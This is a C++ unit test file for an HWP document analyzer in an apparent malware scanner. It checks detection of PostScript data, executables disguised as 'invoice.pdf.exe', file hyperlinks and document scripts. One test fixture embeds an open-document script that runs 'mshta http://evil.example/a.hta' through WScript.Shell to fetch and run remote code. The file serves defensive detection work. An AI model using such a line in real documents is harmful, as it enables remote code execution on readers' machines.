// Generated HWP 5 documents: text and controls, PostScript/EPS BinData, OLE packages, scripts,
// hyperlinks, password and distribution flags, HWP 3, and broken input.
#include "analyzers/hwp/hwp_analyzer.h"

#include <gtest/gtest.h>

#include <algorithm>

#include "analyzers/hwp/hwp_format.h"
#include "analyzers/hwp/hwp_streams.h"
#include "analyzers/hwp/hwp_test_builder.h"
#include "core/file_type.h"
#include "core/testing/recording_context.h"
#include "core/utf8.h"
#include "engine/scan.h"
#include "formats/cfb/cfb_builder.h"
#include "formats/cfb/compound_file.h"

namespace lg {
namespace {

using testing::CfbBuilder;
using testing::hwp_ole_package;
using testing::HwpBuilder;
using testing::RecordingContext;

RecordingContext run(ByteView data) {
  RecordingContext ctx;
  EXPECT_TRUE(HwpAnalyzer().analyze(data, ctx).is_ok());
  return ctx;
}

Bytes eps_content() {
  std::string s = "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n/x { exec } def\n";
  return Bytes(s.begin(), s.end());
}

TEST(HwpAnalyzer, ParagraphTextWithControls) {
  for (std::uint32_t props : {0u, 1u}) {
    HwpBuilder b(props);
    Bytes units;
    testing::put_extended_control(units, 2, "secd");  // section definition: 8 units, no text
    testing::put_wchars(units, "Job offer");
    testing::put_u16(units, 9);  // tab: an inline control of 8 units
    for (int i = 0; i < 7; ++i) testing::put_u16(units, 0);
    testing::put_wchars(units, "Senior");
    testing::put_u16(units, 10);      // line break: one unit
    testing::put_u16(units, 0xD55C);  // 한
    testing::put_u16(units, 0xAE00);  // 글
    testing::put_u16(units, 0xD83D);  // U+1F600 as a surrogate pair
    testing::put_u16(units, 0xDE00);
    b.paragraph(units);
    b.paragraph("second paragraph");
    Bytes file = b.build();
    RecordingContext ctx = run(file);
    EXPECT_EQ(ctx.all_text(TextKind::kDocument),
              "Job offer\tSenior\n\xED\x95\x9C\xEA\xB8\x80\xF0\x9F\x98\x80\nsecond paragraph");
    EXPECT_EQ(ctx.str("hwp_format"), "hwp5");
    EXPECT_EQ(ctx.str("hwp_version"), "5.0.3.0");
    EXPECT_EQ(std::get<bool>(ctx.facts["hwp_compressed"]), props == 1);
    EXPECT_EQ(ctx.num("hwp_sections"), 1);
    EXPECT_EQ(ctx.num("hwp_paragraphs"), 2);
    EXPECT_EQ(ctx.num("hwp_records"), 4);
    EXPECT_TRUE(ctx.findings.empty());
    EXPECT_TRUE(ctx.anomalies.empty());
  }
}

TEST(HwpAnalyzer, CompressedEpsBinDataIsPostScript) {
  HwpBuilder b(1);
  b.paragraph("see the chart");
  b.bindata(1, "eps", eps_content());
  b.bindata(2, "jpg", Bytes{0xFF, 0xD8, 0xFF, 0xE0, 0, 0x10, 'J', 'F', 'I', 'F', 0});
  RecordingContext ctx = run(b.build());
  ASSERT_TRUE(ctx.has(Symbol::HWP_POSTSCRIPT));
  ASSERT_EQ(ctx.children.size(), 2u);
  EXPECT_EQ(ctx.children[0].info.relation, "bindata");
  EXPECT_EQ(ctx.children[0].info.name, "BIN0001.eps");
  EXPECT_EQ(ctx.children[0].data, eps_content());  // inflated
  EXPECT_TRUE(ctx.children[0].info.source_size.has_value());
  EXPECT_EQ(ctx.children[1].info.name, "BIN0002.jpg");
  EXPECT_EQ(identify(ctx.children[1].data), FileType::kJpeg);
  int postscript = 0;
  for (const auto& f : ctx.findings) postscript += f.symbol == Symbol::HWP_POSTSCRIPT;
  EXPECT_EQ(postscript, 1);  // the JPEG is not PostScript
}

TEST(HwpAnalyzer, PostScriptFoundByContentUnderAnotherExtension) {
  for (Bytes content : {eps_content(), Bytes{0xC5, 0xD0, 0xD3, 0xC6, 0x20, 0, 0, 0}}) {
    HwpBuilder b(1);
    b.bindata(3, "jpg", content);
    RecordingContext ctx = run(b.build());
    EXPECT_TRUE(ctx.has(Symbol::HWP_POSTSCRIPT));
  }
  HwpBuilder clean(1);
  clean.bindata(3, "png", Bytes{0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'});
  EXPECT_FALSE(run(clean.build()).has(Symbol::HWP_POSTSCRIPT));
}

TEST(HwpAnalyzer, OlePackageWithAnExecutable) {
  Bytes mz = {'M', 'Z', 0x90, 0, 3, 0, 0, 0};
  HwpBuilder b(1);
  b.bindata(1, "OLE", hwp_ole_package("invoice.pdf.exe", mz));
  RecordingContext ctx = run(b.build());
  ASSERT_TRUE(ctx.has(Symbol::HWP_EMBEDDED_OLE_EXECUTABLE));
  auto it = std::find_if(ctx.findings.begin(), ctx.findings.end(), [](const auto& f) {
    return f.symbol == Symbol::HWP_EMBEDDED_OLE_EXECUTABLE;
  });
  EXPECT_NE(it->evidence.value.find("invoice.pdf.exe"), std::string::npos);
  ASSERT_EQ(ctx.children.size(), 1u);
  // The child is the compound file itself, so the OLE analyzer finds the package.
  EXPECT_TRUE(CompoundFile::has_signature(ctx.children[0].data));

  HwpBuilder harmless(1);
  harmless.bindata(1, "OLE", hwp_ole_package("chart.txt", as_bytes("just numbers 1 2 3")));
  EXPECT_FALSE(run(harmless.build()).has(Symbol::HWP_EMBEDDED_OLE_EXECUTABLE));
}

TEST(HwpAnalyzer, ScriptStorage) {
  const std::string header =
      "var Documents = XHwpDocuments;\r\nvar Document = Documents.Active_XHwpDocument;\r\n";
  HwpBuilder b(1 | 8);
  b.script(header,
           "function OnDocument_New()\r\n{\r\n\t//todo : \r\n}\r\n\r\n"
           "function OnDocument_Open()\r\n{\r\n\tvar s = new ActiveXObject(\"WScript.Shell\");\r\n"
           "\ts.Run(\"mshta http://evil.example/a.hta\");\r\n}\r\n");
  RecordingContext ctx = run(b.build());
  EXPECT_TRUE(ctx.has(Symbol::HWP_SCRIPT));
  EXPECT_NE(ctx.all_text(TextKind::kScript).find("WScript.Shell"), std::string::npos);
  EXPECT_EQ(ctx.str("hwp_script_version"), "1.0");
  EXPECT_TRUE(std::get<bool>(ctx.facts["hwp_script"]));

  HwpBuilder empty(1 | 8);
  empty.script(header,
               "function OnDocument_New()\r\n{\r\n\t//todo : \r\n}\r\n\r\n"
               "function OnDocument_Open()\r\n{\r\n\t//todo : \r\n}\r\n\r\n");
  RecordingContext quiet = run(empty.build());
  EXPECT_FALSE(quiet.has(Symbol::HWP_SCRIPT));
  EXPECT_NE(quiet.all_text(TextKind::kScript).find("OnDocument_Open"), std::string::npos);
}

TEST(HwpAnalyzer, TrivialScriptJudgment) {
  EXPECT_TRUE(hwp_script_is_trivial(""));
  EXPECT_TRUE(hwp_script_is_trivial("/* nothing */ function OnDocument_New() { }"));
  EXPECT_FALSE(hwp_script_is_trivial("function OnDocument_Open() { x(); }"));
  EXPECT_FALSE(hwp_script_is_trivial("eval(y)"));
}

TEST(HwpAnalyzer, Hyperlinks) {
  HwpBuilder b(1);
  b.hyperlink("http\\://google.com;1;0;0;");
  b.hyperlink("file\\:///C\\:/Users/Public/update.vbs;1;0;0;");
  b.paragraph("click here");
  RecordingContext ctx = run(b.build());
  ASSERT_EQ(ctx.links.size(), 2u);
  EXPECT_EQ(ctx.links[0].href, "http://google.com");
  EXPECT_EQ(ctx.links[1].href, "file:///C:/Users/Public/update.vbs");
  int file_links = 0;
  for (const auto& f : ctx.findings) file_links += f.symbol == Symbol::HWP_HYPERLINK_FILE;
  EXPECT_EQ(file_links, 1);
  EXPECT_EQ(hwp_hyperlink_target("a\\\\b;c"), "a\\b");
}

TEST(HwpAnalyzer, PasswordDocumentIsNotRead) {
  HwpBuilder b(1 | 2);
  b.paragraph("unreadable");
  RecordingContext ctx = run(b.build());
  EXPECT_TRUE(ctx.has(Symbol::HWP_ENCRYPTED));
  EXPECT_TRUE(std::get<bool>(ctx.facts["hwp_password"]));
  EXPECT_TRUE(ctx.texts.empty());
  auto names = std::get<std::vector<std::string>>(ctx.facts["hwp_properties"]);
  EXPECT_EQ(names, (std::vector<std::string>{"compressed", "password"}));
}

TEST(HwpAnalyzer, DistributionDocument) {
  HwpBuilder b(1 | 4);
  b.paragraph("protected");
  b.preview("Preview of the offer");
  RecordingContext ctx = run(b.build());
  EXPECT_TRUE(ctx.has(Symbol::HWP_DISTRIBUTION));
  EXPECT_EQ(ctx.all_text(TextKind::kDocument), "Preview of the offer");
  EXPECT_TRUE(std::get<bool>(ctx.facts["hwp_distribution"]));
  EXPECT_FALSE(ctx.has(Symbol::HWP_ENCRYPTED));
}

TEST(HwpAnalyzer, TextBudgetCutsOnACharacterBoundary) {
  HwpBuilder b(1);
  Bytes units;
  for (int i = 0; i < 100; ++i) testing::put_u16(units, 0xD55C);  // 한, 3 bytes in UTF-8
  b.paragraph(units);
  Bytes file = b.build();
  RecordingContext ctx;
  ctx.limits_.max_text_bytes = 31;
  ASSERT_TRUE(HwpAnalyzer().analyze(file, ctx).is_ok());
  std::string text = ctx.all_text(TextKind::kDocument);
  EXPECT_EQ(text.size(), 30u);
  EXPECT_TRUE(is_valid_utf8(text));
}

TEST(HwpAnalyzer, Hwp3IsRecognized) {
  std::string v3 = "HWP Document File V3.00 \x1A\x01\x02\x03\x04\x05";
  v3.resize(200, '\0');
  RecordingContext ctx = run(as_bytes(v3));
  EXPECT_EQ(ctx.str("hwp_format"), "hwp3");
  EXPECT_EQ(ctx.str("hwp_version"), "3.00");
  EXPECT_TRUE(ctx.findings.empty());
}

TEST(HwpRecords, TruncatedAndExtendedSizes) {
  Bytes big(5000, 'a');
  Bytes stream = testing::hwp_record(67, 1, big);
  HwpRecordWalk ok = walk_hwp_records(stream, 10);
  ASSERT_EQ(ok.records.size(), 1u);
  EXPECT_EQ(ok.records[0].body.size(), 5000u);  // 0xFFF then a DWORD size (4.1)
  stream.resize(stream.size() - 10);
  HwpRecordWalk cut = walk_hwp_records(stream, 10);
  ASSERT_EQ(cut.anomalies.size(), 1u);
  EXPECT_EQ(cut.records[0].body.size(), 4990u);
  Bytes partial = {0xFF, 0xFF, 0xFF, 0xFF, 0x01};  // extended size cut short
  EXPECT_EQ(walk_hwp_records(partial, 10).anomalies.size(), 1u);
  Bytes many;
  for (int i = 0; i < 20; ++i) many.insert(many.end(), {0x10, 0, 0, 0});
  HwpRecordWalk capped = walk_hwp_records(many, 5);
  EXPECT_TRUE(capped.capped);
  EXPECT_EQ(capped.records.size(), 5u);
}

TEST(HwpAnalyzer, CorruptStreamsBecomeAnomalies) {
  // A section that does not inflate, and a record running past the end of DocInfo.
  CfbBuilder cfb;
  cfb.stream("FileHeader", testing::hwp_file_header(1));
  Bytes info = testing::hwp_record(0x12, 1, Bytes(40, 1));
  info.resize(20);
  cfb.stream("DocInfo", testing::deflate_raw(info));
  int body = cfb.storage("BodyText");
  cfb.stream("Section0", std::string_view("\xFF\xFF\xFF garbage, not deflate"), body);
  RecordingContext ctx = run(cfb.build());
  EXPECT_TRUE(ctx.has(Symbol::HWP_MALFORMED));
  EXPECT_GE(ctx.anomalies.size(), 2u);
  EXPECT_EQ(ctx.num("hwp_sections"), 1);

  // No FileHeader signature, and no compound file at all.
  CfbBuilder bare;
  bare.stream("FileHeader", std::string_view("not a header"));
  EXPECT_TRUE(run(bare.build()).has(Symbol::HWP_MALFORMED));
  EXPECT_TRUE(run(as_bytes("\xD0\xCF\x11\xE0 short")).has(Symbol::HWP_MALFORMED));
}

TEST(HwpAnalyzer, TruncationsAndByteFlipsDoNotCrash) {
  HwpBuilder b(1 | 8);
  b.paragraph("text before the objects");
  b.hyperlink("file\\://C\\:/a.exe;1;0;0;");
  b.bindata(1, "eps", eps_content());
  b.bindata(2, "OLE", hwp_ole_package("x.lnk", as_bytes("L\0\0\0")));
  b.script("var a;", "run();");
  const Bytes file = b.build();
  for (std::size_t n = 0; n < file.size(); n += 97) {
    Bytes cut(file.begin(), file.begin() + static_cast<std::ptrdiff_t>(n));
    RecordingContext ctx;
    EXPECT_TRUE(HwpAnalyzer().analyze(cut, ctx).is_ok());
  }
  for (std::size_t i = 0; i < file.size(); i += 13) {
    Bytes flipped = file;
    flipped[i] ^= 0xA5;
    RecordingContext ctx;
    EXPECT_TRUE(HwpAnalyzer().analyze(flipped, ctx).is_ok());
  }
}

// End to end: the engine analyzes the BinData children (the OLE analyzer opens the package).
TEST(HwpAnalyzer, ThroughTheEngine) {
  Bytes mz = {'M', 'Z', 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xFF, 0xFF, 0, 0};
  HwpBuilder b(1);
  b.paragraph("Please review the attached offer");
  b.bindata(1, "eps", eps_content());
  b.bindata(2, "OLE", hwp_ole_package("offer.exe", mz));
  Bytes file = b.build();
  ASSERT_EQ(identify(file), FileType::kHwp);
  Config config = default_config();
  TextScanner scanner;
  Report r;
  Scan scan(config, scanner, r, [](FileType t) -> std::unique_ptr<Analyzer> {
    if (t == FileType::kHwp) return std::make_unique<HwpAnalyzer>();
    return make_analyzer(t);
  });
  scan.run("offer.hwp", file);
  auto has = [&r](std::string_view s) {
    return std::any_of(r.findings.begin(), r.findings.end(),
                       [s](const Finding& f) { return f.symbol == s; });
  };
  EXPECT_TRUE(has("HWP_POSTSCRIPT"));
  EXPECT_TRUE(has("HWP_EMBEDDED_OLE_EXECUTABLE"));
  ASSERT_GE(r.objects.size(), 3u);
  EXPECT_EQ(r.objects[0].type, "hwp");
  bool ole_child = false;
  for (const auto& o : r.objects) ole_child = ole_child || (o.type == "ole2" && o.depth == 1);
  EXPECT_TRUE(ole_child);
}

}  // namespace
}  // namespace lg
